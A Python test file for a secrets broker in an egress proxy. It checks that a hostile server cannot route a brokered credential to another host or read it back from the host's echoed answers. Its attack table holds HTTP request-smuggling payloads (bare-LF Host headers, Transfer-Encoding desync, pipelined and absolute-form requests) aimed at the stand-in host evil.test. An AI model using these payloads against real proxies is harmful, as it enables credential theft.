"""The broker attacked from inside its TLS: a hostile server opens a brokered connection to
the secret's host (CONNECT, then TLS through the session CA it trusts) and writes raw
HTTP/1.1 whose framing the broker and the host could read differently: a request target
naming another host, header lines a lenient parser splits or folds, two ``Host`` or
``Content-Length`` headers, a second request riding on the first, ``Expect:
100-continue``. The host is a TLS server on loopback that records every byte it gets and
reads them as a lenient server would (a bare LF ends a line, a folded line continues the
one before, a request's host is its absolute target's, else each ``Host`` header's). The
promise checked: the value reaches no request addressed to anything but the secret's host,
and the server never reads it back. Each control turns the one protection off and shows
the same bytes leak."""

from __future__ import annotations

import asyncio
import base64
import binascii
import contextlib
import gzip
import json
import re
import ssl
from collections.abc import Callable
from pathlib import Path
from urllib.parse import quote, unquote_to_bytes, urlsplit

import pytest

from launcher.host.session_ca import SessionCA
from launcher.plan.secrets_plan import Brokered, new_sentinel
from launcher.servers.broker import Broker
from launcher.servers.egress_proxy import EgressProxy, Refusal
from policy.egress import EgressRules
from tests.support.tls_upstream import make_authority

VALUE = "s3cr3t-Value-for-the-api-7f3a9c1e5d2b"
HOST = "api.test"


class Upstream:
    """A TLS host on loopback: every byte it got, and a scripted answer."""

    def __init__(self, answer: Callable[[bytes], bytes]) -> None:
        self.answer = answer
        self.received: list[bytes] = []

    async def handle(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        data = b""
        try:
            data = await reader.readuntil(b"\r\n\r\n")
            length = re.search(rb"(?im)^content-length:\s*(\d+)", data)
            if length:
                data += await reader.readexactly(int(length.group(1)))
            with_more = await asyncio.wait_for(reader.read(65536), 0.3)
            data += with_more
        except (TimeoutError, asyncio.IncompleteReadError, ConnectionError):
            pass
        self.received.append(data)
        try:
            # One request per connection, said as HTTP/1.1 says it.
            closing = b"HTTP/1.1 200 OK\r\nConnection: close\r\n"
            writer.write(self.answer(data).replace(b"HTTP/1.1 200 OK\r\n", closing))
            await writer.drain()
        finally:
            writer.close()


def addressed(raw: bytes) -> list[tuple[set[str], str]]:
    """Each request in ``raw`` as a lenient server reads it: the hosts it could be routed
    to, and its text."""
    text = raw.decode("latin-1").replace("\r\n", "\n")
    out: list[tuple[set[str], str]] = []
    while text:
        head, _, text = text.partition("\n\n")
        length = re.search(r"(?im)^content-length:\s*(\d+)", head)  # the first one
        if re.search(r"(?im)^transfer-encoding:\s*chunked", head):  # wins over a length
            body, end, text = text.partition("0\n\n")
            body += end
        elif length:
            body, text = text[: int(length.group(1))], text[int(length.group(1)) :]
        else:
            body = ""
        request = head + "\n\n" + body
        lines = head.split("\n")
        target = lines[0].split(" ")[1] if lines[0].count(" ") >= 2 else ""
        hosts: set[str] = set()
        if "://" in target:
            hosts.add((urlsplit(target).hostname or "").lower())
        elif target and not target.startswith(("/", "*")):
            hosts.add(target.rsplit(":", 1)[0].lower())  # authority form
        for line in lines[1:]:
            name, _, value = line.partition(":")
            if name.strip().lower() == "host":
                hosts.add(value.strip().rsplit(":", 1)[0].lower())
        out.append((hosts, request))
    return out


def leaked_elsewhere(upstream: Upstream) -> list[str]:
    """The requests the host got that hold the value and are addressed to another host."""
    return [
        request
        for raw in upstream.received
        for hosts, request in addressed(raw)
        if VALUE in request and hosts - {HOST}
    ]


def reflecting(raw: bytes) -> bytes:
    """An answer that gives back what the request said (as some APIs do, in a header)."""
    said = re.search(rb"(?im)^x-echo:\s*(\S+)", raw)
    echo = said.group(1) if said else b"-"
    return b"HTTP/1.1 200 OK\r\nX-You-Sent: " + echo + b"\r\nContent-Length: 2\r\n\r\nok"


def continuing(raw: bytes) -> bytes:
    """``100 Continue`` first (as a host does for ``Expect: 100-continue``), then the answer."""
    return b"HTTP/1.1 100 Continue\r\n\r\n" + reflecting(raw)


def exchange(
    tmp_path: Path,
    request: bytes,
    answer: Callable[[bytes], bytes] = reflecting,
    brokered: bool = True,
    value: str = VALUE,
) -> tuple[bytes, Upstream, list[Refusal]]:
    """``request`` written raw inside a brokered connection to the secret's host: what the
    server read back, what the host got, the proxy's refusals. Not ``brokered``: the proxy
    is a plain tunnel."""
    ca_file, chain = make_authority(tmp_path, [HOST])
    upstream = Upstream(answer)
    refusals: list[Refusal] = []
    secret = Brokered("API_TOKEN", SENTINEL, value, ((HOST, None),), True)

    async def scenario() -> bytes:
        host_tls = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        host_tls.load_cert_chain(chain)
        listening = await asyncio.start_server(upstream.handle, "127.0.0.1", 0, ssl=host_tls)
        port = listening.sockets[0].getsockname()[1]
        rules = EgressRules.from_config([f"{HOST}:{port}"], [], {HOST: "127.0.0.1"})
        session_ca = SessionCA("probe")
        broker = Broker([secret], session_ca)
        broker.upstream.load_verify_locations(ca_file)  # the host's CA, pinned
        sock = str(tmp_path / "egress.sock")
        proxy = EgressProxy("probe", rules, sock, refusals.append, broker if brokered else None)
        await proxy.start()
        try:
            reader, writer = await asyncio.open_unix_connection(sock)
            writer.write(f"CONNECT {HOST}:{port} HTTP/1.1\r\n\r\n".encode())
            assert b" 200 " in await reader.readuntil(b"\r\n\r\n")
            trusted = ssl.create_default_context(cadata=session_ca.pem().decode())
            if not brokered:
                trusted = ssl.create_default_context(cafile=ca_file)
            await writer.start_tls(trusted, server_hostname=HOST)
            writer.write(
                request if brokered else request.replace(SENTINEL.encode(), VALUE.encode())
            )
            await writer.drain()
            got = await asyncio.wait_for(_read_all(reader), 10)
            writer.close()
            return got
        finally:
            await proxy.stop()
            listening.close()
            await listening.wait_closed()

    return asyncio.run(scenario()), upstream, refusals


async def _read_all(reader: asyncio.StreamReader) -> bytes:
    data = b""
    try:
        while chunk := await reader.read(65536):
            data += chunk
    except (ConnectionError, ssl.SSLError):
        pass
    return data


SENTINEL = new_sentinel()
AUTH = f"Authorization: Bearer {SENTINEL}"


# Each attack: what the hostile server writes inside the brokered TLS, the answer its host
# gives, and why the proxy refuses it (None: served, harmlessly).
ATTACKS: dict[str, tuple[str, Callable[[bytes], bytes], str | None]] = {
    "absolute-form target naming another host": (
        f"GET https://evil.test/steal HTTP/1.1\r\nHost: {HOST}\r\n{AUTH}\r\n\r\n",
        reflecting,
        "target is a path",
    ),
    "authority-form target naming another host": (
        f"CONNECT evil.test:443 HTTP/1.1\r\nHost: {HOST}\r\n{AUTH}\r\n\r\n",
        reflecting,
        "target is a path",
    ),
    "a second Host header after a bare LF": (
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-A: a\nHost: evil.test\r\n{AUTH}\r\n\r\n",
        reflecting,
        "malformed header line",
    ),
    "Transfer-Encoding after a bare LF smuggles a request in the body": (
        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nX-A: a\nTransfer-Encoding: chunked\r\n"
        "Content-Length: LEN\r\n\r\n",
        reflecting,
        "malformed header line",
    ),
    "Expect: 100-continue, then the value reflected in the final answer's head": (
        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nExpect: 100-continue\r\nX-Echo: {SENTINEL}\r\n"
        "Content-Length: 2\r\n\r\nok",
        continuing,
        None,
    ),
    "a pipelined second request to another host": (
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\n\r\n"
        f"GET / HTTP/1.1\r\nHost: evil.test\r\n{AUTH}\r\n\r\n",
        reflecting,
        None,
    ),
    "a body longer than its Content-Length": (
        f"POST / HTTP/1.1\r\nHost: {HOST}\r\nContent-Length: 2\r\n\r\nokGET / HTTP/1.1\r\n"
        f"Host: evil.test\r\n{AUTH}\r\n\r\n",
        reflecting,
        None,
    ),
    "the value reflected in the answer's head": (
        f"GET / HTTP/1.1\r\nHost: {HOST}\r\nX-Echo: {SENTINEL}\r\n\r\n",
        reflecting,
        None,
    ),
}
SMUGGLED = f"0\r\n\r\nGET / HTTP/1.1\r\nHost: evil.test\r\n{AUTH}\r\n\r\n"


def _request(name: str, held: str = SENTINEL) -> bytes:
    """The attack's bytes, written with what the server holds (its sentinel, or the value)."""
    text, smuggled = ATTACKS[name][0].replace(SENTINEL, held), SMUGGLED.replace(SENTINEL, held)
    if "LEN" in text:
        text = text.replace("LEN", str(len(smuggled))) + smuggled
    return text.encode("latin-1")


@pytest.mark.parametrize("name", list(ATTACKS))
def test_the_value_reaches_only_the_secrets_host_and_never_comes_back(
    tmp_path: Path, name: str
) -> None:
    _, answer, refused = ATTACKS[name]
    seen, upstream, refusals = exchange(tmp_path, _request(name), answer)
    assert not leaked_elsewhere(upstream)
    assert VALUE.encode() not in seen
    if refused is None:
        assert upstream.received and not refusals  # served, to the secret's host
    else:
        assert [r.reason for r in refusals if refused in r.reason], refusals
        assert not upstream.received[0]  # the host got nothing (its TLS opened, no request)
        assert seen.startswith(b"HTTP/1.1 400 ")
    assert not [r for r in refusals if VALUE in r.reason]


@pytest.mark.parametrize("name", list(ATTACKS))
def test_control_the_same_bytes_leak_when_the_server_holds_the_value(
    tmp_path: Path, name: str
) -> None:
    # Brokering off: the server holds the value and writes it where it wrote its sentinel,
    # through a plain tunnel. What the host makes of those bytes is what the broker prevents.
    request = _request(name, held=VALUE)
    seen, upstream, _ = exchange(tmp_path, request, ATTACKS[name][1], brokered=False)
    assert leaked_elsewhere(upstream) or VALUE.encode() in seen


# -- the value coming back in the body of its host's answer --------------------------------


def _authorization(raw: bytes) -> bytes:
    said = re.search(rb"(?im)^authorization:\s*bearer\s+(\S+)", raw)
    return said.group(1) if said else b"-"


def _page(body: bytes, *fields: bytes) -> bytes:
    head = [b"HTTP/1.1 200 OK", *fields, b"Content-Length: %d" % len(body), b"", b""]
    return b"\r\n".join(head) + body


def echoing(raw: bytes) -> bytes:
    """An API that says back the credential it got, in its body."""
    return _page(b'{"you sent": "' + _authorization(raw) + b'"}')


def echoing_in_chunks(raw: bytes) -> bytes:
    """The same, chunked, the value cut in two by the chunks."""
    said = _authorization(raw)
    half = len(said) // 2
    pieces = [b"you sent ", said[:half], said[half:], b"."]
    chunks = b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces)
    head = b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n"
    return head + chunks + b"0\r\nX-Trailer: " + said + b"\r\n\r\n"


def echoing_compressed_when_asked(raw: bytes) -> bytes:
    """The same, gzip'd when the request accepts it."""
    if re.search(rb"(?im)^accept-encoding:.*gzip", raw):
        body = gzip.compress(b"you sent " + _authorization(raw))
        return _page(body, b"Content-Encoding: gzip")
    return echoing(raw)


def echoing_compressed_always(raw: bytes) -> bytes:
    return _page(gzip.compress(b"you sent " + _authorization(raw)), b"Content-Encoding: gzip")


def echoing_the_header(raw: bytes) -> bytes:
    """An API that says back the ``Authorization`` header it got, as it got it."""
    said = re.search(rb"(?im)^authorization:\s*(.+?)\r?$", raw)
    header = said.group(1) if said else b"-"
    return _page(b"you sent " + header, b"X-You-Sent: " + header)


def readable(seen: bytes) -> bytes:
    """What the server can read of an answer: its body ungzipped where it says gzip, and
    each base64 word in it decoded."""
    head, _, body = seen.partition(b"\r\n\r\n")
    if re.search(rb"(?im)^transfer-encoding:\s*chunked", head):
        body = _dechunked(body)
    if re.search(rb"(?im)^content-encoding:\s*gzip", head):
        body = gzip.decompress(body)
    text = head + b"\r\n\r\n" + body
    for word in re.findall(rb"[A-Za-z0-9+/]{8,}=*", text):
        with contextlib.suppress(binascii.Error, ValueError):
            text += b"\n" + base64.b64decode(word, validate=True)
    return text


def _dechunked(body: bytes) -> bytes:
    """A chunked body's data."""
    data = b""
    while (size := int(body.split(b"\r\n", 1)[0], 16)) != 0:
        start = body.index(b"\r\n") + 2
        data, body = data + body[start : start + size], body[start + size + 2 :]
    return data


BASIC = "Authorization: Basic " + base64.b64encode(f"me:{SENTINEL}".encode()).decode()
ANSWERS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "in the body": (echoing, ""),
    "in the body, cut across two chunks (and in a trailer)": (echoing_in_chunks, ""),
    "in a gzip'd body the server asked for": (echoing_compressed_when_asked, "gzip"),
    "in a gzip'd body the server did not ask for": (echoing_compressed_always, ""),
    "in Basic credentials said back as they came": (echoing_the_header, ""),
}


def _echo_request(accept: str, basic: bool = False) -> bytes:
    head = f"GET /echo HTTP/1.1\r\nHost: {HOST}\r\n{BASIC if basic else AUTH}\r\n"
    if accept:
        head += f"Accept-Encoding: {accept}\r\n"
    return (head + "\r\n").encode()


@pytest.mark.parametrize("name", list(ANSWERS))
def test_the_server_never_reads_the_value_in_its_hosts_answer(tmp_path: Path, name: str) -> None:
    answer, accept = ANSWERS[name]
    request = _echo_request(accept, basic=answer is echoing_the_header)
    seen, upstream, refusals = exchange(tmp_path, request, answer)
    assert VALUE.encode() in readable(upstream.received[0])  # the host got it, said it back
    assert VALUE.encode() not in readable(seen)
    if answer is echoing_compressed_always:  # what the broker cannot read is not passed on
        assert seen.startswith(b"HTTP/1.1 502 ") and b"encoded as gzip" in seen
        assert [r for r in refusals if "encoded as gzip" in r.reason]
    else:
        assert SENTINEL.encode() in readable(seen) and not refusals


@pytest.mark.parametrize("name", list(ANSWERS))
def test_control_the_answer_hands_the_value_to_a_server_that_sent_it(
    tmp_path: Path, name: str
) -> None:
    answer, accept = ANSWERS[name]
    request = _echo_request(accept, basic=answer is echoing_the_header)
    held = "Authorization: Basic " + base64.b64encode(f"me:{VALUE}".encode()).decode()
    request = request.replace(BASIC.encode(), held.encode())
    request = request.replace(SENTINEL.encode(), VALUE.encode())
    seen, _, _ = exchange(tmp_path, request, answer, brokered=False)
    assert VALUE.encode() in readable(seen).replace(b"\r\n", b"").replace(b"\n", b"")


# -- the value said back encoded: percent-encoded in a redirect, escaped in JSON ----------

SPECIAL = 's3cr3t/Välue+for=the"api~7f3a'


def redirecting(raw: bytes) -> bytes:
    """A host that puts the credential in a redirect's query and a JSON body."""
    said = _authorization(raw).decode()
    body = json.dumps({"token": said}).replace("/", "\\/").encode()
    return _page(body, b"Location: /done?token=" + quote(said, safe="").encode())


def _decoded(seen: bytes) -> bytes:
    """``seen`` with its percent-encoding and JSON escapes undone, as a server would."""
    unescaped = seen.replace(b"\\/", b"/").replace(b'\\"', b'"')
    unescaped = re.sub(rb"\\u([0-9a-f]{4})", lambda m: chr(int(m.group(1), 16)).encode(), unescaped)
    return seen + b"\n" + unescaped + b"\n" + unquote_to_bytes(seen)


def test_the_value_said_back_encoded_goes_back_as_the_sentinel(tmp_path: Path) -> None:
    seen, upstream, refusals = exchange(tmp_path, _echo_request(""), redirecting, value=SPECIAL)
    assert SPECIAL.encode() in upstream.received[0] and not refusals
    assert SPECIAL.encode() not in _decoded(seen)
    assert b"Location: /done?token=" + SENTINEL.encode() in seen


def test_control_the_value_said_back_encoded_reaches_a_server_that_sent_it(
    tmp_path: Path,
) -> None:
    request = _echo_request("").replace(SENTINEL.encode(), SPECIAL.encode())
    seen, _, _ = exchange(tmp_path, request, redirecting, brokered=False, value=SPECIAL)
    assert SPECIAL.encode() in _decoded(seen)
